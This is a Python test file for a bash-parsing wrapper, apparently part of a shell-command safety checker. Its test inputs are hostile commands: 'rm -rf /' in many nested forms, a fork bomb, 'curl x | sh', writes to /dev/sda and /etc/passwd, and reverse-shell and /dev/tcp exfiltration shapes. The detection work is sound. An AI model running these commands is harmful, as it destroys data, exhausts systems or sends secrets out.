"""The tree-sitter-bash wrapper: words, nesting, pipelines, redirects, functions, wrappers."""

from __future__ import annotations

import pytest

from pipeline.shell import DYNAMIC, is_dynamic, parse_script, strip_markers, unwrap
from pipeline.shell.finders import FOUND_MARK
from pipeline.shell.unwrap import INPUT_MARK


def argvs(command: str) -> list[tuple[str, ...]]:
    return [c.argv for c in parse_script(command).commands]


@pytest.mark.parametrize(
    "command",
    ["\\rm -rf /", "'r''m' -rf /", '"rm" -rf /', "r\\m -rf /", "$'rm' -rf /", '"r"m -rf /'],
)
def test_quotes_and_escapes_are_removed(command: str) -> None:
    assert argvs(command) == [("rm", "-rf", "/")]


def test_words_keep_literal_text_and_mark_expansions() -> None:
    (cmd,) = parse_script('echo "a b" \'$HOME\' "$HOME"/x ${HOME} f\\ g "\\$x" $\'\\x41\\n\'').commands
    assert cmd.argv[1] == "a b"
    assert cmd.argv[2] == "$HOME" and not is_dynamic(cmd.argv[2])
    assert cmd.argv[3] == f"{DYNAMIC}$HOME{DYNAMIC}/x" and is_dynamic(cmd.argv[3])
    assert cmd.argv[4] == f"{DYNAMIC}$HOME{DYNAMIC}"
    assert cmd.argv[5] == "f g"
    assert cmd.argv[6] == "$x" and not is_dynamic(cmd.argv[6])
    assert cmd.argv[7] == "A\n"
    assert strip_markers(cmd.argv[3]) == "$HOME/x"


@pytest.mark.parametrize(
    "command",
    [
        "a | rm -rf /",
        "a && rm -rf / || b; c",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "diff <(rm -rf /) b",
        "f() { rm -rf /; }",
        "if true; then rm -rf /; fi",
        "for i in 1 2; do rm -rf /; done",
        "while true; do rm -rf /; done",
        "case x in x) rm -rf /;; esac",
        "x=$(rm -rf /)",
        "export X=$(rm -rf /)",
        'echo "$(echo "$(rm -rf /)")"',
        "[[ -n $(rm -rf /) ]]",
        "cat <<EOF\n$(rm -rf /)\nEOF\n",
        "echo ${x:-$(rm -rf /)}",
    ],
)
def test_every_nested_command_is_found(command: str) -> None:
    assert ("rm", "-rf", "/") in argvs(command)


def test_substitutions_record_their_host() -> None:
    script = parse_script("echo $(curl x | sh) `id`")
    echo, curl, sh, ident = script.commands
    assert echo.argv[1] == echo.argv[2] and is_dynamic(echo.argv[1])
    assert curl.in_substitution and curl.host == 0 and ident.host == 0
    assert not echo.in_substitution and echo.host is None
    assert curl.pipeline == sh.pipeline and curl.pipes_to_next and sh.piped_into and not sh.pipes_to_next


def test_pipeline_positions() -> None:
    a, b, c = parse_script("a | b |& c").commands
    assert (a.stage, b.stage, c.stage) == (0, 1, 2)
    assert not a.piped_into and a.pipes_to_next and b.piped_into and b.pipes_to_next and not c.pipes_to_next
    assert len(parse_script("a | b").stages(a.pipeline or 0)) == 2


def test_redirects() -> None:
    (cmd,) = parse_script("sort < in.txt > /dev/sda 2>>err.log").commands
    ops = [(r.op, r.target, r.fd) for r in cmd.redirects]
    assert ("<", "in.txt", None) in ops and (">", "/dev/sda", None) in ops and (">>", "err.log", 2) in ops
    assert [r.target for r in cmd.redirects if r.writes] == ["/dev/sda", "err.log"]
    bare = parse_script("> /etc/passwd")
    assert bare.commands == () and bare.redirects[0].target == "/etc/passwd" and bare.redirects[0].owner is None
    nested = parse_script("echo $(> /etc/passwd)")
    assert [r.target for r in nested.redirects] == ["/etc/passwd"]
    compound = parse_script("{ echo; } > /dev/sda")
    assert compound.redirects[0].owner is None and compound.redirects[0].writes


def test_heredoc_and_herestring_bodies() -> None:
    (cmd,) = parse_script("sh <<EOF\nrm -rf /\nEOF\n").commands
    assert cmd.redirects[0].op == "<<" and "rm -rf /" in cmd.redirects[0].target
    (cmd,) = parse_script("bash <<< 'rm -rf /'").commands
    assert cmd.redirects[0].op == "<<<" and cmd.redirects[0].target == "rm -rf /"


def test_fork_bomb_shape_is_visible() -> None:
    script = parse_script(":(){ :|:& };:")
    (function,) = script.functions
    assert function.name == ":" and len(function.body) == 2
    body = [script.commands[i] for i in function.body]
    assert all(c.argv == (":",) and c.background and c.function == ":" for c in body)
    assert script.commands[-1].function is None


def test_unbounded_loops() -> None:
    for command in ("while true; do a & done", "while :; do a & done", "until false; do a & done", "for ((;;)); do a & done"):
        inner = [c for c in parse_script(command).commands if c.argv == ("a",)]
        assert inner and inner[0].in_unbounded_loop and inner[0].background, command
    bounded = [c for c in parse_script("while read x; do a; done").commands if c.argv == ("a",)]
    assert not bounded[0].in_unbounded_loop


def test_parse_errors_are_reported_without_the_text() -> None:
    script = parse_script("rm -rf / (")
    assert not script.ok and script.error and "rm" not in script.error
    assert ("rm", "-rf", "/") in [c.argv for c in script.commands]  # error recovery keeps what parsed
    unterminated = parse_script("echo 'secret-value")
    assert not unterminated.ok and "secret-value" not in (unterminated.error or "")
    assert parse_script("").ok and parse_script("").commands == ()


def test_deep_nesting_does_not_recurse() -> None:
    depth = 5000
    script = parse_script("echo " + "$(" * depth + "rm -rf /" + ")" * depth)
    assert ("rm", "-rf", "/") in [c.argv for c in script.commands]
    assert len(script.commands) == depth + 1


@pytest.mark.parametrize(
    ("argv", "expected", "privileged"),
    [
        (("sudo", "-u", "root", "-E", "rm", "-rf", "/"), ("rm", "-rf", "/"), True),
        (("/usr/bin/sudo", "VAR=1", "rm", "x"), ("rm", "x"), True),
        (("doas", "-u", "root", "rm", "x"), ("rm", "x"), True),
        (("env", "-i", "A=1", "B=2", "rm", "x"), ("rm", "x"), False),
        (("nohup", "nice", "-n", "5", "time", "-p", "timeout", "-s", "KILL", "5", "rm", "x"), ("rm", "x"), False),
        (("exec", "-a", "name", "command", "builtin", "RM", "x"), ("rm", "x"), False),
        (("xargs", "-0", "-n", "1", "rm", "-rf"), ("rm", "-rf", INPUT_MARK), False),
        (("xargs", "-I{}", "rm", "{}/x"), ("rm", f"{INPUT_MARK}/x"), False),
        (("xargs",), ("echo", INPUT_MARK), False),
        (("busybox", "rm", "x"), ("rm", "x"), False),
        (("command", "-v", "rm"), ("command", "-v", "rm"), False),
        (("sudo", "-i"), ("sudo", "-i"), False),
    ],
)
def test_unwrap_wrappers(argv: tuple[str, ...], expected: tuple[str, ...], privileged: bool) -> None:
    inv = unwrap(argv)
    assert inv.argv == expected and inv.privileged == privileged


def test_unwrap_scripts_and_inputs() -> None:
    assert unwrap(("sh", "-c", "rm -rf /")).scripts == ("rm -rf /",)
    assert unwrap(("bash", "-lc", "x")).scripts == ("x",)
    assert unwrap(("eval", "rm", "-rf", "/")).scripts == ("rm -rf /",)
    assert unwrap(("su", "-c", "rm x", "root")).scripts == ("rm x",) and unwrap(("su", "-c", "x")).privileged
    assert unwrap(("ssh", "-p", "22", "host", "rm", "-rf", "/")).scripts == ("rm -rf /",)
    assert unwrap(("env", "-S", "rm -rf /")).scripts[0] == "rm -rf /"
    assert unwrap(("sh",)).script_input and unwrap(("bash", "-s", "--", "x")).script_input
    assert not unwrap(("bash", "script.sh")).script_input
    assert unwrap(("python3", "-c", "print(1)")).code == "print(1)"
    assert unwrap(("python3",)).script_input and not unwrap(("python3", "app.py")).script_input
    assert unwrap(("find", "/", "-exec", "rm", "-rf", "{}", ";")).spawned == (("rm", "-rf", FOUND_MARK),)


def test_unwrap_depth_is_bounded() -> None:
    inv = unwrap(("nice",) * 100 + ("rm", "x"))
    assert inv.too_deep


@pytest.mark.parametrize("code_point", [0xE0001, 0xE0100, 0xF0000, 0x7FFFF, 0x10FFFF])
def test_code_points_that_crash_the_scanner_are_neutralised(code_point: int) -> None:
    # Regression: tree-sitter-bash 0.25.1 segfaulted on `{` + U+E0001 (found by hypothesis).
    for _ in range(50):
        script = parse_script("{" + chr(code_point) + " x; rm -rf /")
    assert ("rm", "-rf", "/") in [c.argv for c in script.commands]
    assert parse_script("a\ud800b").commands[0].argv == ("a\ufffdb",)


def test_printed_substitutions_are_read_only_when_asked() -> None:
    """The safety reading replaces `$(echo rm)` by `rm`; everyone else sees the text as written."""
    assert parse_script("$(echo rm) -rf ~").commands[0].argv[0] != "rm"
    assert parse_script("$(echo rm) -rf ~", printed=True).commands[0].argv == ("rm", "-rf", "~")
    assert parse_script("rm -rf $(ls -d /*)", printed=True).commands[0].argv == ("rm", "-rf", "/*")
    assert parse_script("rm -rf $(printf /)", printed=True).commands[0].argv == ("rm", "-rf", "/")
    assert is_dynamic(parse_script("rm -rf $(cat list)", printed=True).commands[0].argv[2])


def test_bash_grammar_corrections() -> None:
    """Where tree-sitter-bash reads differently from bash, the walk follows bash."""
    joined = parse_script("command r\\\nm -rf x")  # backslash-newline joins the word
    assert joined.commands[0].argv == ("command", "rm", "-rf", "x") and joined.split_word
    (true, cat) = parse_script("true && cat key > /dev/tcp/h/1").commands  # the redirect is cat's, not the list's
    assert [r.target for r in cat.redirects] == ["/dev/tcp/h/1"] and not true.redirects
    stages = parse_script("cat f | sh -i 2>&1 | nc h 1").commands  # one pipeline, not two
    assert len({c.pipeline for c in stages}) == 1 and [c.stage for c in stages] == [0, 1, 2]
    assert parse_script("rm -rf {/,x}").commands[0].argv == ("rm", "-rf", "/", "x")  # brace expansion
    loop = parse_script("for d in / /home; do rm -rf $d; done")
    assert [(a.name, a.value, a.choice) for a in loop.assignments] == [("d", "/", True), ("d", "/home", True)]
    assert parse_script("x='a[$(id)]'; echo $(( x ))").arithmetic == {"x"}
